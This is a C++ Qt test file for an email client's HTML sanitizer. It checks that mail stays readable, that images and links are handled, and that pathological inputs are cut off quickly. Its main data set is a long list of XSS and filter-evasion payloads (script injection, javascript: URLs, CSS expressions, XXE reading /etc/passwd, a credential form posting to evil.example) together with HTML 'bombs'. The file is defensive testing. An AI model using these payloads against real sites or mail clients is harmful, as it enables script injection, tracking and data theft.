#include "core/content/cleanhtml.h"
#include "tests/core/content/harmless.h"

#include <QElapsedTimer>
#include <QTest>
#include <QTextDocument>

#include <ctime>

using namespace waxwing;

namespace {

QString utf8(const char* text)
{
    return QString::fromUtf8(text);
}

CleanHtml clean(const QString& html)
{
    return cleanHtml(html, CleanOptions());
}

QString repeated(const char* piece, int count)
{
    return QString::fromLatin1(piece).repeated(count);
}

/// Slow builds and busy machines included; without the limits these take minutes or crash.
constexpr int kQuickMs = 15'000;

} // namespace

class CleanHtmlTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void nothingActiveSurvives_data()
    {
        QTest::addColumn<QString>("html");
        // After the collections of filter evasions by OWASP and html5sec.
        const char* attacks[] = {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script/src=data:,alert(1)>",
            "<<SCRIPT>alert('x');//<</SCRIPT>",
            "<SCRIPT SRC=//evil.example/x.js?< B >",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script x=\">\" src=\"//evil.example\"></script>",
            "<script>a='</scr'+'ipt>'</script>",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror\n=\nalert(1)>",
            "<img/src=\"x\"/onerror=alert(1)>",
            "<img \"\"\"><script>alert(1)</script>\"\\>",
            "<IMG SRC=`javascript:alert(1)`>",
            "<IMG SRC=\"javascript:alert(1);\">",
            "<IMG SRC=\"jav\tascript:alert(1);\">",
            "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
            "<IMG SRC=\" &#14;  javascript:alert(1);\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>",
            "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099:alert(1)>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)>",
            "<IMG DYNSRC=\"https://evil.example/a\" LOWSRC=\"https://evil.example/b\">",
            "<img srcset=\"https://evil.example/a 1x, https://evil.example/b 2x\">",
            "<picture><source srcset=\"https://evil.example/a\"><img src=\"cid:x\"></picture>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"java&Tab;script:alert(1)\">x</a>",
            "<a href=\"java&NewLine;script:alert(1)\">x</a>",
            "<a href=\"&#1;javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<a href=\"smb://evil.example/share\">x</a>",
            "<a href=\"\\\\evil.example\\share\">x</a>",
            "<a href=\"search-ms:query=x\">x</a>",
            "<a href=\"ms-msdt:/id\">x</a>",
            "<a href=\"waxwing://open/1\">x</a>",
            "<a href=\"http:\">x</a>",
            "<a href=\"https:///nohost\">x</a>",
            "<a href=\"https://ok.example\" onclick=\"alert(1)\" "
            "ping=\"https://evil.example\">x</a>",
            "<a href=\"https://ok.example/&quot; onmouseover=&quot;alert(1)\">x</a>",
            "<a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
            "<BODY ONLOAD=alert(1) BACKGROUND=\"https://evil.example/bg\">text",
            "<table background=\"https://evil.example/bg\"><tr><td "
            "background=\"https://e.example\">x",
            "<div style=\"background-image: url(https://evil.example/i)\">x</div>",
            "<div style=\"background:url('https://evil.example/i')\">x</div>",
            "<div style=\"background: \\75\\72\\6C(https://evil.example/i)\">x</div>",
            "<div style=\"list-style-image:url(https://evil.example/i)\">x</div>",
            "<div style=\"border-image:url(https://evil.example/i)\">x</div>",
            "<div style=\"width: expression(alert(1))\">x</div>",
            "<div style=\"width: exp/**/ression(alert(1))\">x</div>",
            "<div style=\"color:red;-moz-binding:url(//evil.example/x.xml#x)\">x</div>",
            "<div style=\"behavior:url(#default#time2)\">x</div>",
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
            "<div style=\"font-family:'a&quot;><script>alert(1)</script>'\">x</div>",
            "<div style='color:\"></div><script>alert(1)</script>'>x</div>",
            "<style>@import url(https://evil.example/x.css);</style>",
            "<style>body{background:url(https://evil.example/)}</style>text",
            "<STYLE>.X{background-image:url(\"javascript:alert(1)\");}</STYLE><A CLASS=X></A>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<LINK REL=\"prefetch\" HREF=\"https://evil.example/\">",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"a=b\">",
            "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<frameset><frame src=\"https://evil.example\"></frameset>",
            "<object data=\"https://evil.example/x.swf\"><embed src=\"x\"></object>",
            "<applet code=x></applet>",
            "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
            "<isindex action=javascript:alert(1) type=image>",
            "<input type=image src=\"https://evil.example/i\">",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<video poster=\"https://evil.example/p\" src=\"https://evil.example/v\"></video>",
            "<audio src=\"https://evil.example/a\" autoplay></audio>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><image href=\"https://evil.example/i\"/></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math><maction actiontype=\"statusline#x\" xlink:href=\"javascript:alert(1)\">x",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
            "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
            "<template><script>alert(1)</script></template>",
            "<plaintext><script>alert(1)</script>",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!--><script>alert(1)</script>",
            "<!-- --!><img src=x onerror=alert(1)> -->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><p>&x;</p>",
            "<div onmouseover='alert(1)' onfocus=alert(1) autofocus tabindex=1>x",
            "<p id=x name=y class=z title=t data-x=1 contenteditable accesskey=x>x</p>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<img src=\"data:text/html,<script>alert(1)</script>\">",
            "<img src=\"data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)\">",
            "<img src=\"file:///etc/passwd\">",
            "<img src=\":/qt-project.org/styles/commonstyle/images/x.png\">",
            "<img src=\"qrc:/secret.png\">",
            "<img src=\"/etc/passwd\">",
            "<img src=\"//evil.example/i\">",
            "<hr style=\"background:url(https://evil.example)\" color=\"red\" onclick=x>",
            "<font face=\"x' onload='alert(1)\" color=\"&quot;><script>\">x</font>",
            "<td colspan=\"999999999999\">x</td>",
            "<table width=\"&quot; onload=x\"><tr><td>x",
            "<ol start=\"1&quot; onload=x\"><li>x",
            "<p dir=\"ltr&quot; onload=x\" lang=\"&quot;><script>\">x</p>",
            "<p align=\"center&quot; onload=x\">x</p>",
            "\xef\xbc\x9cscript\xef\xbc\x9e"
            "alert(1)\xef\xbc\x9c/script\xef\xbc\x9e",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#xfdd0;&#xfdd1;&#xfffc;&#x202e;&#0;&#x1;text",
            "<a href=\"https://ok.example\"><table><a href=\"javascript:x\">y</a></table></a>",
            "<b <script>alert(1)</script>0",
            "<div><a href=https://ok.example/<script>x</a>",
            "<",
            "</",
            "<a",
            "<a href=\"",
            "<!--",
            "<!",
            "<a href='x",
            "",
        };
        int number = 0;
        for (const char* attack : attacks)
            QTest::addRow("%03d %.40s", number++, attack) << utf8(attack);
    }

    void nothingActiveSurvives()
    {
        QFETCH(QString, html);
        for (const bool images : {false, true}) {
            CleanOptions options;
            options.remoteImages = images;
            const CleanHtml result = cleanHtml(html, options);
            QCOMPARE(test::complaintAbout(result.html, images), QString());
            if (!images)
                QCOMPARE(test::resourcesLoadedBy(result.html), QString());
            // What is clean stays as it is, also when somebody cleans it once more.
            QCOMPARE(test::complaintAbout(cleanHtml(result.html, options).html, images), QString());
        }
        QCOMPARE(test::complaintAbout(textToHtml(html)), QString());
        QCOMPARE(test::complaintAbout(textToHtml(plainTextOf(html))), QString());
    }

    void attackInsideAttackIsHarmlessToo()
    {
        QString html = QStringLiteral("<table><tr><td>");
        for (int i = 0; i < 20; ++i)
            html += QStringLiteral("<div style=\"background:url(https://e.example/%1)\" onload=x>"
                                   "<scr<script>x</script>ipt><p><form><svg><b>")
                        .arg(i);
        QCOMPARE(test::complaintAbout(clean(html).html), QString());
    }

    void ordinaryMailKeepsItsLooks_data()
    {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QString>("cleaned");
        QTest::newRow("text") << utf8("Hello <b>Anna</b>,<br>how <i>are</i> you?")
                              << utf8("<div>Hello <b>Anna</b>,<br />how <i>are</i> you?</div>");
        QTest::newRow("umlauts and emoji")
            << utf8("<p>Gr\xc3\xbc\xc3\x9f"
                    "e \xf0\x9f\x8e\x89 &euro; &amp; &lt;3</p>")
            << utf8("<div><p>Gr\xc3\xbc\xc3\x9f"
                    "e \xf0\x9f\x8e\x89 \xe2\x82\xac &amp; &lt;3</p></div>");
        QTest::newRow("headings and lists")
            << utf8("<h1>A</h1><ul><li>b<li>c</ul><ol start=3 type=a><li>d</ol>")
            << utf8("<div><h1>A</h1><ul><li>b</li><li>c</li></ul>"
                    "<ol start=\"3\" type=\"a\"><li>d</li></ol></div>");
        QTest::newRow("quote") << utf8("<blockquote type=cite>q</blockquote>")
                               << utf8("<div><blockquote>q</blockquote></div>");
        QTest::newRow("table")
            << utf8("<table width=600 border=0 cellpadding=4 bgcolor=#FFF><tr><td colspan=2 "
                    "align=center valign=top width=50%>x</td></tr></table>")
            << utf8(
                   "<div><table bgcolor=\"#fff\" width=\"600\" border=\"0\" "
                   "cellpadding=\"4\"><tbody>"
                   "<tr><td align=\"center\" width=\"50%\" colspan=\"2\" valign=\"top\">x</td></tr>"
                   "</tbody></table></div>");
        QTest::newRow("styles")
            << utf8("<span style=\"COLOR: Red; font-size:12pt; Font-Weight:700 "
                    "!important\">x</span>")
            << utf8("<div><span "
                    "style=\"color:red;font-size:16px;font-weight:bold;\">x</span></div>");
        QTest::newRow("right to left")
            << utf8("<p dir=rtl lang=he>\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d</p>")
            << utf8("<div><p dir=\"rtl\" lang=\"he\">\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d</p></div>");
        QTest::newRow("outlook") << utf8("<p class=MsoNormal>x<o:p>&nbsp;</o:p></p>")
                                 << utf8("<div><p>x\xc2\xa0</p></div>");
        QTest::newRow("struck") << utf8("<strike>a</strike><del>b</del><ins>c</ins>")
                                << utf8("<div><s>a</s><s>b</s><u>c</u></div>");
        QTest::newRow("whole document")
            << utf8("<!DOCTYPE html><html><head><title>t</title><style>p{}</style></head>"
                    "<body><article>x</article></body></html>")
            << utf8("<div><div>x</div></div>");
        QTest::newRow("preview text is hidden")
            << utf8("<div style=\"display:none;max-height:0\">teaser</div><p>body</p>")
            << utf8("<div><p>body</p></div>");
        QTest::newRow("a cell without a font size keeps its text")
            << utf8("<div style=\"font-size:0\"><span style=\"font-size:14px\">x</span></div>")
            << utf8("<div><div><span style=\"font-size:14px;\">x</span></div></div>");
        QTest::newRow("a form keeps its words") << utf8("<form action=x><p>words</p><input></form>")
                                                << utf8("<div><div><p>words</p></div></div>");
        QTest::newRow("less than")
            << utf8("a < b and 3<4") << utf8("<div>a &lt; b and 3&lt;4</div>");
        QTest::newRow("font")
            << utf8("<font size=+2 face=\"Arial, 'Segoe UI'\" color=blue>x</font>")
            << utf8("<div><font color=\"blue\" size=\"+2\" face=\"Arial,Segoe UI\">x</font></div>");
    }

    void ordinaryMailKeepsItsLooks()
    {
        QFETCH(QString, html);
        QFETCH(QString, cleaned);
        const CleanHtml result = clean(html);
        QCOMPARE(result.html, cleaned);
        QCOMPARE(test::complaintAbout(result.html), QString());
        QVERIFY(!result.truncated);
    }

    void remoteImagesAreBlockedCountedAndNamed()
    {
        const QString html = utf8("<img src=\"https://a.example/1.png\" alt=\"Our logo\">"
                                  "<img src='http://a.example/2.png?x=1&amp;y=2' width=1 height=1>"
                                  "<img src=\"https://a.example/1.png\">");
        const CleanHtml blocked = clean(html);
        QCOMPARE(blocked.blockedImages, 3);
        QCOMPARE(blocked.remoteImages,
                 QList<QUrl>({QUrl(QStringLiteral("https://a.example/1.png")),
                              QUrl(QStringLiteral("http://a.example/2.png?x=1&y=2"))}));
        QCOMPARE(blocked.html, utf8("<div>[Our logo]</div>"));
    }

    void allowedImagesAreAskedForByTheNamesGiven()
    {
        CleanOptions options;
        options.remoteImages = true;
        const CleanHtml result =
            cleanHtml(utf8("<img src=\"https://a.example/\xc3\xbc.png?x=1&amp;y=2#f\" width=90000 "
                           "alt=\"a&quot;b\">"),
                      options);
        QCOMPARE(result.blockedImages, 0);
        QCOMPARE(result.remoteImages.size(), 1);
        QCOMPARE(result.html,
                 utf8("<div><img src=\"https://a.example/%C3%BC.png?x=1&amp;y=2\" width=\"2000\" "
                      "alt=\"a&quot;b\" /></div>"));
        const QString asked = test::resourcesLoadedBy(result.html);
        QCOMPARE(QUrl(asked.section(u' ', 0, 0).section(u':', 1)), result.remoteImages.first());
    }

    void embeddedPicturesStayAndContentIdsBecomeTheirText()
    {
        const CleanHtml result = clean(utf8("<img src=\"data:image/png;base64,iVBO Rw0=\">"
                                            "<img src=\"cid:part1\" alt=\"chart\">"));
        QCOMPARE(result.html,
                 utf8("<div><img src=\"data:image/png;base64,iVBORw0=\" />[chart]</div>"));
        QCOMPARE(result.blockedImages, 0);
    }

    void linksAreListedAndDisguisesFlagged()
    {
        const CleanHtml result =
            clean(utf8("<a href=\"https://bank.example/login\">bank.example</a>"
                       "<a href=\"https://evil.example/\"><b>https://</b>bank.example</a>"
                       "<a href=\"mailto:a@b.example?subject=x&amp;attach=/etc/passwd\">write</a>"
                       "<a href=\"/relative\">gone</a>"));
        QCOMPARE(result.links.size(), 3);
        QVERIFY(!result.links[0].misleading);
        QVERIFY(result.links[1].misleading);
        QCOMPARE(result.links[1].text, utf8("https://bank.example"));
        QCOMPARE(result.links[2].target.toString(), utf8("mailto:a@b.example?subject=x"));
        QVERIFY(result.html.endsWith(utf8("</a>gone</div>")));
    }

    void darkBackgroundLeavesColoursToTheReader()
    {
        CleanOptions options;
        options.darkBackground = true;
        const QString html = cleanHtml(utf8("<body bgcolor=white><font color=black>a</font><p "
                                            "style=\"color:#000;background:#fff;font-weight:bold;"
                                            "border:1px solid black\">b</p>"),
                                       options)
                                 .html;
        QCOMPARE(
            html,
            utf8("<div><font>a</font><p style=\"font-weight:bold;border:1px solid;\">b</p></div>"));
    }

    void bombsEndQuickly_data()
    {
        QTest::addColumn<QString>("html");
        QTest::newRow("nested divisions") << repeated("<div>", 300'000);
        QTest::newRow("nested bold and text")
            << repeated("<div>", 100'000) + QStringLiteral("<b>") + repeated("x ", 500'000);
        QTest::newRow("nested tables") << repeated("<table><tr><td>", 60'000);
        QTest::newRow("a few nested tables, all closed") << repeated("<table><tr><td>", 60) +
                                                                QStringLiteral("x") +
                                                                repeated("</td></tr></table>", 60);
        QTest::newRow("ever more formatting") << [] {
            QString html;
            for (int i = 0; i < 30'000; ++i)
                html += QStringLiteral("<p><font size=%1>x</p>").arg(i);
            return html;
        }();
        QTest::newRow("misnested formatting") << repeated("<b><i><p></b></i>", 40'000);
        QTest::newRow("end tags that do not count")
            << repeated("<div><marquee></div>", 50'000) + repeated("x", 100'000);
        QTest::newRow("foreign elements that are void elsewhere")
            << QStringLiteral("<svg>") + repeated("<input>", 100'000);
        QTest::newRow("one element, many attributes") << [] {
            QString html = QStringLiteral("<p ");
            for (int i = 0; i < 20'000; ++i)
                html += QStringLiteral("a%1=x ").arg(i);
            return html + u'>';
        }();
        QTest::newRow("comments never ended") << repeated("<!-- ", 200'000);
        QTest::newRow("scripts never ended") << repeated("<script>", 130'000);
        QTest::newRow("titles with ends of others") << repeated("<title></style>", 60'000);
        QTest::newRow("quotes never ended") << repeated("<a href=\"", 100'000);
        QTest::newRow("a megabyte of text") << repeated("word &amp; ", 100'000);
        QTest::newRow("long style")
            << QStringLiteral("<p style=\"") + repeated("color:red;", 100'000) + u'"' + u'>';
        QTest::newRow("style comments")
            << QStringLiteral("<p style=\"") + repeated("/*", 4'000) + u'"' + u'>';
        QTest::newRow("select in select") << repeated("<select><option>", 50'000);
        QTest::newRow("wide spans") << repeated("<td colspan=9999 rowspan=9999>", 2'000)
                                           .prepend(QStringLiteral("<table><tr>"));
        QTest::newRow("links in links") << repeated("<a href=https://a.example>", 30'000);
        QTest::newRow("angle brackets") << repeated("<", 1'000'000);
    }

    void bombsEndQuickly()
    {
        QFETCH(QString, html);
        QElapsedTimer timer;
        timer.start();
        const CleanHtml result = clean(html);
        const QString plain = plainTextOf(html);
        QVERIFY2(timer.elapsed() < kQuickMs, qPrintable(QString::number(timer.elapsed())));
        QCOMPARE(test::complaintAbout(result.html.left(20'000).section(u'<', 0, 400)), QString());
    }

    void tooLongInputIsCutAndSaysSo()
    {
        CleanOptions options;
        options.maxBytes = 1000;
        const CleanHtml result = cleanHtml(QString(5'000, QChar(0x20ac)), options);
        QVERIFY(result.truncated);
        QVERIFY(result.html.size() < 400);
        QVERIFY(!result.html.contains(QChar::ReplacementCharacter));
    }

    void deepElementsLoseTheirFormattingNotTheirText()
    {
        CleanOptions options;
        options.maxDepth = 5;
        const CleanHtml result = cleanHtml(
            repeated("<div>", 20) + QStringLiteral("deep") + repeated("</div>", 20), options);
        QVERIFY(result.truncated);
        QVERIFY(result.html.contains(u"deep"));
        QCOMPARE(result.html.count(QStringLiteral("<div")),
                 result.html.count(QStringLiteral("</div")));
        QVERIFY(result.html.count(QStringLiteral("<div")) <= 5);
    }

    void aMegabyteOfOrdinaryMailIsQuick()
    {
        QString html;
        while (html.size() < 1'000'000)
            html +=
                QStringLiteral("<tr><td style=\"padding:4px;color:#333\"><p>Some <b>words</b> in a "
                               "<a href=\"https://a.example/x\">row</a>, as lists of a shop have "
                               "them.</p></td></tr>");
        html = QStringLiteral("<table>") + html + QStringLiteral("</table>");
        const std::clock_t begin = std::clock(); // of the processor: others may be busy
        const CleanHtml result = clean(html);
        const auto taken = static_cast<qint64>(std::clock() - begin) * 1000 / CLOCKS_PER_SEC;
        QVERIFY2(taken < 5'000, qPrintable(QString::number(taken)));
        QVERIFY(!result.links.isEmpty());
    }
};

QTEST_MAIN(CleanHtmlTest)
#include "tst_cleanhtml.moc"
